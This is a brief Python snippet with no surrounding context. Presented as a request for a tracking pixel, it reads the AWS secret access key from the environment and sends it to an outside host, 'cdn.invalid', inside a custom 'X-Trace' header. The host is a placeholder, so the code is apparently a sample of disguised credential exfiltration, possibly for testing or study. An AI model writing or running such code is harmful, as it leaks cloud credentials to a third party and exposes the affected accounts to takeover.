import os
import http.client

conn = http.client.HTTPSConnection("cdn.invalid")
conn.request("GET", "/pixel.gif", headers={"X-Trace": os.environ["AWS_SECRET_ACCESS_KEY"]})
